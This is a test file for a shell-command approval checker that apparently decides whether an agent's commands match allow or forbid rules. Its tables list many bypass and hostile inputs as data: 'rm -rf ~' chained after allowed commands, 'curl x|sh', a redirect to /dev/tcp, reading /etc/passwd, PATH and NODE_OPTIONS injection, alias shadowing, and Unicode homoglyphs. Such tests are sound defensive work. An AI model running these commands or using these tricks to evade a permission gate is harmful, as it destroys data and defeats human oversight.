import { expect, test } from 'vitest'
import { judge } from '#shared/domain/approval/judge.ts'
import type { Rule } from '#shared/domain/approval/rule.ts'
import { readLine, readProgram } from './read-line.ts'

const allow = (text: string): Rule => ({ id: text, effect: 'allow', text, at: 0 })
const forbid = (text: string): Rule => ({ id: text, effect: 'forbid', text, at: 0 })

async function judged(line: string, ...rules: readonly Rule[]): Promise<string> {
  const read = await readLine(line)
  return judge({ kind: 'commands', ...read, inside: true }, rules).kind
}

/** With the rules `npm test *`, `npm run build` and `cd *`, and nothing else. */
const rules = [allow('npm test *'), allow('npm run build'), allow('cd *')]

/** Each is `npm test` and what else the rules name, however it is written. */
const same = [
  'npm test',
  '  npm test  ',
  'npm  test',
  'npm\ttest',
  "'npm' test",
  '"npm" "test"',
  'n\'p\'m t"es"t',
  '\\npm test',
  'n\\pm te\\st',
  'npm test\n',
  '\nnpm test',
  'npm test;',
  'npm test #x',
  'npm test # ; rm -rf ~',
  '# rm -rf ~\nnpm test',
  'npm test -- --grep "a;b && c | d > e"',
  "npm test -- 'rm -rf ~; $(x) `y`'",
  'npm test "\\$(rm x)"',
  'npm test \\$x \\; \\| \\&',
  'npm test 2>&1',
  'npm test 2>/dev/null',
  'npm test >/dev/null 2>&1',
  'npm test </dev/null',
  'npm test && npm run build',
  'npm test || npm test -- --verbose',
  'npm test | npm test',
  'npm test &&\n  npm run build',
  'npm test; npm test\nnpm run build',
  'cd packages/core && npm test',
  'npm test HEAD~1 a@b x=1 50%',
  'npm test -- "ünï"',
  "npm ''test ''",
]

/** None of these is allowed by the rules: they have a part that no rule names, or one that can't be told. */
const more = [
  // Something else beside it.
  'npm test; rm -rf ~',
  'npm test;rm -rf ~',
  'npm test && rm -rf ~',
  'npm test&&rm -rf ~',
  'npm test || rm -rf ~',
  'npm test | sh',
  'npm test && curl x|sh',
  'npm test |& tee log',
  'npm test & rm -rf ~',
  'npm test\nrm -rf ~',
  'npm test\r\nrm -rf ~',
  'npm test\r',
  'npm test #x\nrm -rf ~',
  'npm test \\\n; rm -rf ~',
  'npm test \\\n',
  'rm -rf ~; npm test',
  'npm test; : x',
  '(npm test; rm x)',
  '{ npm test; rm x; }',
  'npm test &',
  'npm test & npm test',
  // Expansions.
  'npm test $(rm x)',
  'npm test `rm x`',
  'npm test "$(rm x)"',
  'npm test "`rm x`"',
  'npm test $((a[$(rm x)]))',
  'npm test ${x:-$(rm x)}',
  'npm test $x',
  'npm test "$x"',
  "npm test $'\\x3b rm x'",
  'npm test $"x"',
  'npm test <(rm x)',
  'npm test >(rm x)',
  'npm test {a,b}',
  'npm {test,publish}',
  '{npm,test}',
  'npm test *',
  'npm test ?',
  'npm test [ab]',
  'npm test ~',
  'npm test ~root/x',
  'npm test prefix=~/x',
  'npm test =ls',
  'npm test *(e:rm:)',
  'npm test @(a|b)',
  'npm test !!',
  '$0 npm test',
  'np$x test',
  '"npm test"',
  "npm 'test -x'",
  // Redirections.
  'npm test > out',
  'npm test >> ~/.bashrc',
  'npm test >out',
  'npm test 2>err',
  'npm test &>out',
  'npm test &>/dev/null',
  'npm test >|out',
  'npm test <> file',
  'npm test < /etc/passwd',
  'npm test >/dev/null/../x',
  'npm test >/dev/nullx',
  'npm test >/dev/tcp/1.2.3.4/80',
  'npm test > "/dev/null"x',
  'npm test 3>&1',
  '> out npm test',
  'npm test <<E\nx\nE',
  'npm test <<E\n$(rm x)\nE\nrm y',
  "npm test <<'E'\nx\nE",
  'npm test <<-E\n\tx\n\tE',
  'npm test <<< x',
  // Variables before it.
  'FOO=1 npm test',
  'NODE_OPTIONS=--require=./x npm test',
  'PATH=. npm test',
  'PATH=.; npm test',
  'FOO+=1 npm test',
  "F'OO=1' npm test",
  'a[0]=1 npm test',
  'export PATH=.; npm test',
  'export PATH=. && npm test',
  'readonly X=1; npm test',
  'declare -x X=1; npm test',
  // What comes first runs the rest, or changes what it means.
  'env npm test',
  'env FOO=1 npm test',
  'sudo npm test',
  'xargs npm test',
  'sh -c "npm test"',
  'bash -lc "npm test"',
  "bash -c 'npm test; rm x'",
  'eval npm test',
  'exec npm test',
  'command npm test',
  'builtin npm test',
  'time npm test',
  '! npm test',
  'nohup npm test',
  'timeout 5 npm test',
  'coproc npm test',
  'noglob npm test',
  'npx npm test',
  'alias npm=rm; npm test',
  'alias npm=rm\nnpm test',
  'npm() { rm x; }; npm test',
  'function npm { rm x; }\nnpm test',
  'hash -p /tmp/x npm; npm test',
  'enable -f /tmp/x npm; npm test',
  'shopt -s expand_aliases; npm test',
  'set -- x; npm test',
  'trap "rm x" EXIT; npm test',
  'source x; npm test',
  '. x; npm test',
  'umask 0; npm test',
  'read PATH; npm test',
  'printf -v PATH x; npm test',
  'if npm test; then rm x; fi',
  'if true; then npm test; fi',
  'while npm test; do rm x; done',
  'for x in 1; do npm test; done',
  'case x in x) npm test;; esac',
  'npm test; done',
  // Another program of the name, or another command of it.
  './npm test',
  '/tmp/npm test',
  '/usr/bin/npm test',
  '~/npm test',
  'npm tests',
  'npm test2>&1',
  'npm --prefix /tmp/x test',
  'npm publish',
  'npm run build -- --x',
  'npm run buildx',
  'npm',
  'NPM test',
  'nрm test',
  'npm tеst',
  'npm\u00a0test',
  'npm\u2003test',
  'npm\u3000test',
  'npm\u200btest',
  '\u202enpm test',
  'npm test \u202e',
  "npm test '\u202e'",
  "npm test 'a\u200bb'",
  'npm\u0000test',
  'npm test \u0000; rm x',
  'npm\u000btest',
  'npm\u000ctest',
  'npm test \u0007',
  'npm test\uff1b rm x',
  'ｎｐｍ test',
  // Other folders.
  'cd .. && npm test',
  'cd /tmp && npm test',
  'cd - && npm test',
  'cd && npm test',
  'cd ~ && npm test',
  'cd a/../../b && npm test',
  'cd a b && npm test',
  'pushd /tmp; npm test',
  // No line at all.
  '',
  ' ',
  '#npm test',
  ';',
  'npm test ;;',
  'npm test &&',
  '&& npm test',
  'npm test |',
  'npm test "',
  "npm test '",
  'npm test \\',
  'npm test )',
  'npm test }x',
]

test.each(same)('%j is allowed', async (line) => {
  expect(await judged(line, ...rules)).toBe('allowed')
})

test.each(more)('%j is not allowed', async (line) => {
  expect(await judged(line, ...rules)).toBe('open')
})

test('the table is long', () => expect(new Set(more).size).toBeGreaterThan(150))

const hidden = [
  'rm -rf x',
  'echo a && rm -rf x',
  'echo $(rm -rf x)',
  'echo `rm -rf x`',
  'X=1 rm -rf x',
  '/bin/rm -rf x',
  "'rm' -rf x",
  '\\rm -rf x',
  'sudo rm -rf x',
  'sudo -u root env A=1 rm -rf x',
  'xargs rm -rf',
  'sh -c "rm -rf x"',
  "bash -lc 'cd y && rm -rf x'",
  `bash -c "sh -c 'rm -rf x'"`,
  'eval rm -rf x',
  'timeout 5 rm -rf x',
  '(rm -rf x)',
  '{ rm -rf x; }',
  'if true; then rm -rf x; fi',
  'f() { rm -rf x; }',
  'rm -rf $HOME',
  'rm -rf * > log 2>&1 &',
  'cat <(rm -rf x)',
  'diff a b | tee x; rm -rf x # y',
]

test.each(hidden)('%j is forbidden wherever it stands', async (line) => {
  expect(await judged(line, forbid('rm -rf *'))).toBe('forbidden')
  // Whatever allows it besides.
  expect(await judged(line, allow('rm -rf x'), allow('echo *'), forbid('rm -rf *'))).toBe('forbidden')
})

test.each(['echo "rm -rf x"', 'rm x', 'rm -r -f x', 'git commit -m "rm -rf x"'])(
  '%j is something else',
  async (line) => {
    expect(await judged(line, forbid('rm -rf *'))).toBe('open')
  },
)

test.each([
  'git push',
  'git -C x push',
  'git -c a=b --no-pager push origin',
  '/usr/bin/git --git-dir=x push',
])('%j is forbidden by its command', async (line) => {
  expect(await judged(line, forbid('git push *'))).toBe('forbidden')
})

test.each([
  [['npm', 'test', 'a; rm x'], 'allowed'],
  [['bash', '-lc', 'npm test && npm run build'], 'allowed'],
  [['/bin/sh', '-c', 'npm test'], 'allowed'],
  [['bash', '-lc', 'npm test; rm x'], 'open'],
  [['./bash', '-lc', 'npm test'], 'open'],
  [['/tmp/bash', '-c', 'npm test'], 'open'],
  [['bash', '-ic', 'npm test'], 'open'],
  [['bash', '-c', 'npm test', 'x'], 'open'],
  [['bash', '--rcfile', 'x', '-c', 'npm test'], 'open'],
  [['fish', '-c', 'npm test'], 'open'],
  [['env', 'bash', '-lc', 'npm test'], 'open'],
  [['bash', '-lc', 'bash -lc "npm test"'], 'open'],
  [[], 'open'],
])('%j, started with its arguments, is %s', async (argv, kind) => {
  const read = await readProgram(argv)
  expect(judge({ kind: 'commands', ...read, inside: true }, rules).kind).toBe(kind)
})
